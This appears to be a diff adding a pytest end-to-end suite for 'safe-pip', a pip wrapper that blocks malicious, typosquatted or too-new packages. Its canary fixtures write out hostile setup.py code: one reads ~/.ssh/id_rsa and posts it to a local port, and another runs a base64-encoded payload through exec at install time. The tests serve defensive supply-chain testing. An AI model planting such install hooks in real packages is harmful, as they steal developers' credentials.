@@ -1,0 +1,252 @@
+"""`safe-pip install` end to end: the real pip of a fresh virtualenv, behind safe-pip's
+proxy, against a fixture index served on 127.0.0.1 by the test.
+
+Malicious fixtures are canaries: if their setup.py ever ran it would only write a marker
+file in the test's temp dir and talk to 127.0.0.1:9 (nothing listens there). The tests
+prove it never runs: the marker never exists.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import pathlib
+import socket
+import subprocess
+import sys
+import time
+
+import pytest
+
+from fixture_index import FixtureIndex, sdist, wheel, write_dists
+
+pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX paths and venv layout")
+
+
+def _closed_port() -> int:
+    s = socket.socket()
+    s.bind(("127.0.0.1", 0))
+    port = s.getsockname()[1]
+    s.close()
+    return port
+
+
+@pytest.fixture(scope="module")
+def venv(tmp_path_factory) -> pathlib.Path:
+    """One fresh virtualenv (with the pip Python ships) for this module."""
+    d = tmp_path_factory.mktemp("venv")
+    subprocess.run([sys.executable, "-m", "venv", str(d)], check=True, capture_output=True)
+    return d
+
+
+@pytest.fixture
+def home(tmp_path) -> dict[str, str]:
+    """An environment where nothing of the real user's config, DB or caches is used."""
+    h = tmp_path / "home"
+    (h / ".ssh").mkdir(parents=True)
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "SAFE_PIP_", "XDG_", "UV_")) and k != "VIRTUAL_ENV"}
+    env.update(
+        HOME=str(h),
+        XDG_CONFIG_HOME=str(h / ".config"),
+        XDG_DATA_HOME=str(h / ".local/share"),
+        XDG_STATE_HOME=str(h / ".local/state"),
+        XDG_CACHE_HOME=str(h / ".cache"),
+        SAFE_PIP_DB=str(tmp_path / "verdicts.sqlite3"),
+        PIP_CONFIG_FILE=os.devnull,
+        PIP_NO_CACHE_DIR="1",
+        PIP_DISABLE_PIP_VERSION_CHECK="1",
+        NO_COLOR="1",
+    )
+    return env
+
+
+def safe_pip(env: dict[str, str], *args: str, cwd: pathlib.Path | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(["safe-pip", "install", *args], capture_output=True, text=True, env=env, cwd=cwd, timeout=600)
+
+
+def installed(venv: pathlib.Path, name: str) -> str | None:
+    proc = subprocess.run([str(venv / "bin" / "python"), "-m", "pip", "show", name], capture_output=True, text=True)
+    for line in proc.stdout.splitlines():
+        if line.startswith("Version:"):
+            return line.split(":", 1)[1].strip()
+    return None
+
+
+def canary_setup(marker: pathlib.Path) -> str:
+    """setup.py that steals ~/.ssh and posts it (to 127.0.0.1:9) — and leaves a marker."""
+    return (
+        "import os, urllib.request\n"
+        "from setuptools import setup\n"
+        f"open({str(marker)!r}, 'w').write('setup.py ran')\n"
+        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+        "urllib.request.urlopen('http://127.0.0.1:9/collect', data=key.encode())\n"
+        "setup(name='zqx-setup-canary', version='1.0')\n"
+    )
+
+
+def decode_exec_setup(marker: pathlib.Path) -> str:
+    payload = f"open({str(marker)!r}, 'w').write('payload ran')\nimport urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/x')\n"
+    b64 = base64.b64encode(payload.encode()).decode()
+    return f"import base64\nfrom setuptools import setup\nexec(base64.b64decode('{b64}'))\nsetup(name='zqx-decode-canary', version='1.0')\n"
+
+
+CLEAN = {"qqclean_app/__init__.py": "from qqclean_dep import VALUE\n", "qqclean_app/core.py": "def double(x):\n    return 2 * x\n"}
+
+
+def test_clean_package_and_its_dependency_install_and_are_listed(venv, home) -> None:
+    dists = [wheel("qqclean-app", "1.0", CLEAN, requires=("qqclean-dep>=1",)), wheel("qqclean-dep", "1.2", {"qqclean_dep/__init__.py": "VALUE = 1\n"})]
+    with FixtureIndex(dists) as idx:
+        proc = safe_pip(home, "--python", str(venv), "--format", "json", "--index-url", idx.url, "qqclean-app")
+        assert proc.returncode == 0, proc.stdout + proc.stderr
+        report = json.loads(proc.stdout)
+        files = {f["filename"]: f for f in report["files"]}
+        assert set(files) == {d.filename for d in dists}
+        assert all(f["verdict"] == "allow" and f["served"] and f["source"] == "index" for f in files.values())
+        assert report["pip"]["ran"] and report["pip"]["exit_code"] == 0 and report["exit_code"] == 0
+        # pip's own output went to stderr, through the proxy (never the fixture index directly).
+        assert "Successfully installed" in proc.stderr
+        assert idx.url not in proc.stderr
+        # Every file pip got was fetched by the proxy from the fixture index.
+        assert sorted(idx.file_requests()) == sorted(f"/files/{d.filename}" for d in dists)
+    assert installed(venv, "qqclean-app") == "1.0" and installed(venv, "qqclean-dep") == "1.2"
+
+
+def test_terminal_summary_lists_every_file(venv, home) -> None:
+    dists = [wheel("qqwheelapp", "0.3", {"qqwheelapp/__init__.py": "X = 1\n"})]
+    with FixtureIndex(dists) as idx:
+        proc = safe_pip(home, "--python", str(venv), "-i", idx.url, "qqwheelapp==0.3")
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    assert "ALLOW  qqwheelapp 0.3  qqwheelapp-0.3-py3-none-any.whl" in proc.stdout, proc.stdout
+    assert "1 file checked: 0 blocked, 0 warned, 1 allowed; pip exited with 0" in proc.stdout
+
+
+@pytest.mark.parametrize("kind", ["steal-and-post", "decode-exec"])
+def test_malicious_dependency_is_blocked_and_never_runs(venv, home, tmp_path, kind) -> None:
+    marker = tmp_path / "CANARY_RAN"
+    (pathlib.Path(home["HOME"]) / ".ssh" / "id_rsa").write_text("not a real key\n")
+    if kind == "steal-and-post":
+        evil = sdist("zqx-setup-canary", "1.0", {"setup.py": canary_setup(marker)})
+    else:
+        evil = sdist("zqx-decode-canary", "1.0", {"setup.py": decode_exec_setup(marker)})
+    app = wheel("qqtransitive-app", "1.0", {"qqtransitive_app/__init__.py": "X = 1\n"}, requires=(evil.project,))
+    with FixtureIndex([app, evil]) as idx:
+        proc = safe_pip(home, "--python", str(venv), "--index-url", idx.url, "qqtransitive-app")
+    out = proc.stdout + proc.stderr
+    assert proc.returncode == 1, out
+    # pip shows the proxy's reason; the summary says what and why.
+    assert "Forbidden by safe-pip" in proc.stderr, proc.stderr
+    assert f"BLOCK  {evil.project} 1.0" in proc.stdout, proc.stdout
+    assert "Blocked:" in proc.stdout and evil.filename in proc.stdout
+    assert "critical" in proc.stdout
+    assert not marker.exists(), "blocked setup.py ran"
+    assert installed(venv, evil.project) is None
+    assert installed(venv, "qqtransitive-app") is None
+
+
+def test_too_new_release_is_skipped_for_an_older_one(venv, home) -> None:
+    old = wheel("qqfresh", "1.0", {"qqfresh/__init__.py": "V = 1\n"}, upload_time=time.time() - 90 * 86400)
+    new = wheel("qqfresh", "2.0", {"qqfresh/__init__.py": "V = 2\n"}, upload_time=time.time() - 3600)
+    with FixtureIndex([old, new]) as idx:
+        # Without an age policy pip would take 2.0 (dry run: nothing installed).
+        dry = safe_pip(home, "--python", str(venv), "-i", idx.url, "--dry-run", "qqfresh")
+        assert dry.returncode == 0 and "qqfresh-2.0" in dry.stdout, dry.stdout + dry.stderr
+        proc = safe_pip(home, "--python", str(venv), "-i", idx.url, "--min-release-age", "7", "qqfresh")
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    assert installed(venv, "qqfresh") == "1.0"
+    assert new.filename in proc.stdout and "release-too-new" in proc.stdout, proc.stdout
+
+
+def test_typosquat_is_refused_before_any_download(venv, home) -> None:
+    with FixtureIndex([wheel("reqests", "1.0", {"reqests/__init__.py": ""})]) as idx:
+        proc = safe_pip(home, "--python", str(venv), "-i", idx.url, "reqests")
+        assert idx.requests == [], "the index was contacted"
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    assert "did you mean `requests`" in proc.stdout
+    assert "pip was not run" in proc.stdout
+    assert installed(venv, "reqests") is None
+
+
+def test_typosquat_in_an_included_requirements_file_is_refused(venv, home, tmp_path) -> None:
+    (tmp_path / "base.txt").write_text("djang0==4.2\n")
+    (tmp_path / "requirements.txt").write_text("-r base.txt\n")
+    proc = safe_pip(home, "--python", str(venv), "-r", str(tmp_path / "requirements.txt"))
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    assert "did you mean `django`" in proc.stdout and "base.txt:1" in proc.stdout
+
+
+def test_unreachable_index_fails_closed_with_a_clear_message(venv, home) -> None:
+    url = f"http://127.0.0.1:{_closed_port()}/simple/"
+    proc = safe_pip(home, "--python", str(venv), "-i", url, "--retries", "0", "qqclean-other")
+    out = proc.stdout + proc.stderr
+    assert proc.returncode not in (0, 1), out
+    assert "could not be read" in proc.stderr and "127.0.0.1" in proc.stderr, out
+    assert "hint:" in proc.stderr
+    assert installed(venv, "qqclean-other") is None
+
+
+def test_malicious_local_archive_is_refused_before_pip_runs(venv, home, tmp_path) -> None:
+    marker = tmp_path / "CANARY_RAN"
+    [path] = write_dists(tmp_path / "dist", [sdist("zqx-setup-canary", "1.0", {"setup.py": canary_setup(marker)})])
+    proc = safe_pip(home, "--python", str(venv), "--no-index", f"./dist/{path.name}", cwd=tmp_path)
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    assert "Refused before pip ran" in proc.stdout and "pip was not run" in proc.stdout
+    assert "install-network" in proc.stdout or "exfiltration" in proc.stdout, proc.stdout
+    assert not marker.exists()
+    assert installed(venv, "zqx-setup-canary") is None
+
+
+def test_clean_local_wheel_installs_from_its_vetted_copy(venv, home, tmp_path) -> None:
+    [path] = write_dists(tmp_path, [wheel("qqlocal", "0.1", {"qqlocal/__init__.py": "X = 1\n"})])
+    proc = safe_pip(home, "--python", str(venv), "--no-index", str(path))
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    assert "ALLOW  qqlocal 0.1" in proc.stdout and "local" in proc.stdout
+    assert installed(venv, "qqlocal") == "0.1"
+
+
+def test_direct_url_is_downloaded_and_checked_by_the_wrapper(venv, home, tmp_path) -> None:
+    marker = tmp_path / "CANARY_RAN"
+    evil = sdist("zqx-setup-canary", "1.0", {"setup.py": canary_setup(marker)})
+    with FixtureIndex([evil]) as idx:
+        proc = safe_pip(home, "--python", str(venv), f"zqx-setup-canary @ {idx.root}/files/{evil.filename}")
+        assert idx.file_requests() == [f"/files/{evil.filename}"]
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    assert "pip was not run" in proc.stdout
+    assert not marker.exists()
+
+
+def test_vcs_requirement_is_refused_as_unverifiable(venv, home) -> None:
+    proc = safe_pip(home, "--python", str(venv), "git+https://127.0.0.1:9/repo.git#egg=qqvcs")
+    assert proc.returncode == 3, proc.stdout + proc.stderr
+    assert "unverifiable" in proc.stdout and "--allow-unverified" in proc.stdout
+
+
+def test_requirements_file_index_lines_go_through_the_proxy(venv, home, tmp_path) -> None:
+    marker = tmp_path / "CANARY_RAN"
+    main = [wheel("qqreq-app", "1.0", {"qqreq_app/__init__.py": ""})]
+    extra = [sdist("zqx-setup-canary", "1.0", {"setup.py": canary_setup(marker)})]
+    with FixtureIndex(main) as a, FixtureIndex(extra) as b:
+        req = tmp_path / "requirements.txt"
+        req.write_text(f"# pinned\n--index-url {a.url}\n--extra-index-url {b.url}\nqqreq-app\nzqx-setup-canary\n")
+        before = req.read_bytes()
+        proc = safe_pip(home, "--python", str(venv), "-r", str(req))
+        assert b.file_requests() == [f"/files/{extra[0].filename}"], "the extra index was not reached through the proxy"
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    assert "Forbidden by safe-pip" in proc.stderr
+    assert req.read_bytes() == before, "the user's requirements file was modified"
+    assert a.url not in proc.stderr and b.url not in proc.stderr, "pip talked to an index directly"
+    assert not marker.exists()
+
+
+def test_find_links_folder_files_are_vetted(venv, home, tmp_path) -> None:
+    marker = tmp_path / "CANARY_RAN"
+    links = tmp_path / "links"
+    write_dists(links, [wheel("qqlinked", "1.0", {"qqlinked/__init__.py": ""}), sdist("zqx-setup-canary", "1.0", {"setup.py": canary_setup(marker)})])
+    proc = safe_pip(home, "--python", str(venv), "--no-index", "--find-links", str(links), "qqlinked")
+    # The clean file installs; the malicious one never reaches pip and is reported.
+    assert installed(venv, "qqlinked") == "1.0", proc.stdout + proc.stderr
+    assert proc.returncode == 1
+    assert "kept out of the find-links folder" in proc.stdout
+    proc = safe_pip(home, "--python", str(venv), "--no-index", "--find-links", str(links), "zqx-setup-canary")
+    assert proc.returncode == 1 and installed(venv, "zqx-setup-canary") is None
+    assert not marker.exists()
